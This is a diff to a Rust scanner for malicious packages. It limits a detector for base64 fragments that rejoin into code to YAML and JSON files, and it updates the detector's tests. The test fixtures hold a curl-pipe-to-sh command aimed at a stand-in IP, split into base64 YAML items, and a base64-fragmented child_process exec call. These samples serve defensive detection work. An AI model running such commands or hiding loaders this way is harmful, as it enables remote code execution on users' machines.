@@ -156,11 +156,17 @@ fn encoded_code(text: &str) -> Option<String> {
 /// strings), each item base64 of one piece or one piece of a base64 text: what a loader joins
 /// back at run time (`cfg.keys.map(atob).join('')`). With the decoded text and whether it is a
 /// download-and-run command (`curl … | sh`, a PowerShell cradle).
-fn fragmented_code(text: &str) -> Option<(String, bool)> {
+fn fragmented_code(path: &str, text: &str) -> Option<(String, bool)> {
     if text.len() > 512 * 1024 {
         return None;
     }
-    let yaml_item = crate::regex!(r#"(?m)^[ \t]*-[ \t]+['"]?([A-Za-z0-9+/]{2,}={0,2})['"]?[ \t]*\r?$"#);
+    let p = path.to_ascii_lowercase();
+    let yaml = p.ends_with(".yml") || p.ends_with(".yaml");
+    if !yaml && !p.ends_with(".json") {
+        return None;
+    }
+    let yaml_item =
+        crate::regex!(r#"(?m)^[ \t]*-[ \t]+['"]?([A-Za-z0-9+/]{2,}={0,2})['"]?[ \t]*\r?$"#);
     let json_list = crate::regex!(
         r#"\[\s*"[A-Za-z0-9+/]{2,}={0,2}"(?:\s*,\s*"[A-Za-z0-9+/]{2,}={0,2}"){2,}\s*\]"#
     );
@@ -169,9 +175,12 @@ fn fragmented_code(text: &str) -> Option<(String, bool)> {
     // Consecutive YAML items form one list.
     let mut cur: Vec<&str> = Vec::new();
     let mut last_end = None;
-    for c in yaml_item.captures_iter(text) {
-        let (Some(m), Some(item)) = (c.get(0), c.get(1)) else { continue };
-        let next_line = last_end.is_some_and(|e: usize| text.get(e..m.start()).is_some_and(|g| g.trim().is_empty()));
+    for c in yaml_item.captures_iter(if yaml { text } else { "" }) {
+        let (Some(m), Some(item)) = (c.get(0), c.get(1)) else {
+            continue;
+        };
+        let next_line = last_end
+            .is_some_and(|e: usize| text.get(e..m.start()).is_some_and(|g| g.trim().is_empty()));
         if !next_line && !cur.is_empty() {
             groups.push(std::mem::take(&mut cur));
         }
@@ -179,8 +188,14 @@ fn fragmented_code(text: &str) -> Option<(String, bool)> {
         last_end = Some(m.end());
     }
     groups.push(cur);
-    for m in json_list.find_iter(text).take(64) {
-        groups.push(json_item.captures_iter(m.as_str()).filter_map(|c| c.get(1)).map(|x| x.as_str()).collect());
+    for m in json_list.find_iter(if yaml { "" } else { text }).take(64) {
+        groups.push(
+            json_item
+                .captures_iter(m.as_str())
+                .filter_map(|c| c.get(1))
+                .map(|x| x.as_str())
+                .collect(),
+        );
     }
     for g in groups.iter().filter(|g| g.len() >= 3) {
         // Each item decoded on its own, or the items joined and then decoded.
@@ -288,7 +303,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
                     continue;
                 }
                 if matches!(f.kind, FileKind::Json | FileKind::Text)
-                    && let Some((t, runs)) = fragmented_code(&f.text)
+                    && let Some((t, runs)) = fragmented_code(&f.path, &f.text)
                 {
                     let (sev, what) = if runs {
                         (Severity::Critical, "a download-and-run command")
@@ -413,22 +428,36 @@ mod fragment_tests {
     #[test]
     fn yaml_items_that_decode_to_curl_pipe_sh_are_a_download_and_run() {
         let cmd = "curl -fsSL http://203.0.113.41/r/ci.sh | sh >/dev/null 2>&1 &";
-        let items: String = cmd.as_bytes().chunks(14).map(|c| format!("    - {}\n", b64(std::str::from_utf8(c).unwrap()))).collect();
+        let items: String = cmd
+            .as_bytes()
+            .chunks(14)
+            .map(|c| format!("    - {}\n", b64(std::str::from_utf8(c).unwrap())))
+            .collect();
         let yml = format!("columns: 100\ncache:\n  keys:\n{items}annotations:\n  github: true\n");
-        assert_eq!(fragmented_code(&yml).map(|(_, runs)| runs), Some(true));
+        assert_eq!(
+            fragmented_code("config/defaults.yml", &yml).map(|(_, runs)| runs),
+            Some(true)
+        );
     }
 
     #[test]
     fn a_json_array_of_base64_pieces_of_code_is_found() {
         let code = b64("require('child_process').exec(process.env.CMD)");
-        let parts: Vec<String> = code.as_bytes().chunks(12).map(|c| format!("\"{}\"", std::str::from_utf8(c).unwrap())).collect();
+        let parts: Vec<String> = code
+            .as_bytes()
+            .chunks(12)
+            .map(|c| format!("\"{}\"", std::str::from_utf8(c).unwrap()))
+            .collect();
         let json = format!("{{\"salt\": [{}]}}", parts.join(", "));
-        assert_eq!(fragmented_code(&json).map(|(_, runs)| runs), Some(false));
+        assert_eq!(
+            fragmented_code("data/salt.json", &json).map(|(_, runs)| runs),
+            Some(false)
+        );
     }
 
     #[test]
     fn lists_of_hashes_and_words_are_not_code() {
         let yml = "integrity:\n  - sha512AbCdEfGh0123456789+/xyz=\n  - QmFzZTY0IGlzIG5vdCBjb2Rl\n  - aGVsbG8gd29ybGQ=\nnames:\n  - alpha\n  - beta\n  - gamma\n";
-        assert!(fragmented_code(yml).is_none());
+        assert!(fragmented_code("meta.yml", yml).is_none());
     }
 }
